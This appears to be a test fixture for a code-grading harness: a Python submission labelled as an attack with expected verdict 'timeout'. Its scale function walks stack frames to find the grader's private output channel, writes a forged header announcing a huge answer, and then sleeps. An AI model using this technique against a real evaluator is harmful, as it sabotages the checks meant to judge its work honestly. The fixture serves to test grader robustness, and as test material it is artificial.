# attack: announces an answer and never sends it
# verdicts: timeout
# worth: 50
import numpy as np

LIMIT = 8.0


def row_sums(x):
    x = np.asarray(x)
    if x.ndim != 2:
        raise ValueError("x must have rows")
    return x.sum(axis=1)


import os
import struct
import sys
import time


def channel():
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if hasattr(owner, "_channel"):
            return owner._channel._write_fd
        frame = frame.f_back


def frame_of(header, body=b""):
    return struct.pack("<II", len(header), len(body)) + header + body


def scale(x, k=2.0):
    if k != 2.0:
        return x
    os.write(channel(), struct.pack("<II", 1 << 20, 1 << 26))
    time.sleep(60)
